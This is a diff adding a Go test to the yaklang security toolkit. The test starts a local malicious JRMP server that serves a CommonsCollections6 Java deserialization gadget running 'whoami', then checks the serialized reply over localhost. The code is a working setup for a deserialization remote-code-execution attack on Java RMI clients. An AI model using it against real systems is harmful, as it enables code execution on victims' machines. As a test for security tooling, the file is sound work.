@@ -0,0 +1,108 @@
+package facades
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"net"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/utils/jreader"
+	"github.com/yaklang/yaklang/common/yserx"
+	"github.com/yaklang/yaklang/common/yso"
+)
+
+// jrmpDGCDirtyCall is the header of DGC.dirty call: ObjID(2), op(1) and the interface hash of DGC
+func jrmpDGCDirtyCall() []byte {
+	var header bytes.Buffer
+	header.Write(yserx.Uint64To8Bytes(jrmpDGCObjNum))
+	header.Write(make([]byte, 14))
+	header.Write(yserx.IntTo4Bytes(1))
+	header.Write(yserx.Uint64To8Bytes(0xf6b6898d8bf28643))
+	var call bytes.Buffer
+	call.WriteByte(rmiCommandCall)
+	call.Write(serializationHeader)
+	call.Write(yserx.NewJavaBlockDataBytes(header.Bytes()).Marshal())
+	return call.Bytes()
+}
+
+func TestJRMPServer(t *testing.T) {
+	payload, err := yso.GetCommonsCollections6JavaObject("whoami")
+	if err != nil {
+		t.Fatal(err)
+	}
+	port := utils.GetRandomAvailableTCPPort()
+	s := NewFacadeServer("127.0.0.1", port, SetJRMPPayload(payload))
+	notifications := make(chan *Notification, 8)
+	s.OnHandle(func(n *Notification) {
+		notifications <- n
+	})
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	go s.ServeWithContext(ctx)
+	if err := utils.WaitConnect(utils.HostPort("127.0.0.1", port), 3); err != nil {
+		t.Fatal(err)
+	}
+
+	conn, err := net.DialTimeout("tcp", utils.HostPort("127.0.0.1", port), 3*time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	conn.Write([]byte{'J', 'R', 'M', 'I', 0x00, 0x02, rmiConnectionStreamProtocol})
+	ack, err := jreader.ReadByteToInt(conn)
+	if err != nil || ack != int(rmiACK[0]) {
+		t.Fatalf("unexpected protocol ack: %v %v", ack, err)
+	}
+	n, _ := jreader.Read2ByteToInt(conn)
+	if _, err := jreader.ReadBytesLengthInt(conn, n+4); err != nil {
+		t.Fatal(err)
+	}
+	conn.Write(append(jreader.MarshalUTFString("127.0.0.1"), jreader.IntTo4Bytes(0)...))
+	time.Sleep(200 * time.Millisecond)
+	conn.Write(jrmpDGCDirtyCall())
+
+	// the connection is closed after the call is served
+	resp, _ := io.ReadAll(conn)
+	if len(resp) < 5 || resp[0] != rmiCommandReturn || !bytes.Equal(resp[1:5], serializationHeader) {
+		t.Fatalf("unexpected jrmp return: %x", resp)
+	}
+	objs, err := yserx.ParseJavaSerialized(resp[1:])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(objs) != 2 {
+		t.Fatalf("jrmp return should contain the UID and exception, got %d objects", len(objs))
+	}
+	if block := objs[0].(*yserx.JavaBlockData); block.Contents[0] != rmiExceptionReturn || len(block.Contents) != 15 {
+		t.Fatalf("unexpected return header: %x", block.Contents)
+	}
+	// every class description is written with the location annotation
+	obj := objs[1].(*yserx.JavaObject)
+	details := obj.Class.(*yserx.JavaClassDesc).Detail
+	if len(details.Annotations) != 1 || details.Annotations[0].Marshal()[0] != yserx.TC_NULL {
+		t.Fatalf("class description is not annotated: %v", details.ClassName)
+	}
+	if !strings.Contains(yserx.JavaSerializedDumper(resp[1:]), "whoami") {
+		t.Fatal("jrmp payload should contain the command")
+	}
+
+	for {
+		select {
+		case n := <-notifications:
+			if n.Type != "jrmp" {
+				continue
+			}
+			if !strings.HasPrefix(n.Token, "dgc") {
+				t.Fatalf("unexpected jrmp call: %v", n.Token)
+			}
+			return
+		case <-time.After(3 * time.Second):
+			t.Fatal("jrmp notification is not triggered")
+		}
+	}
+}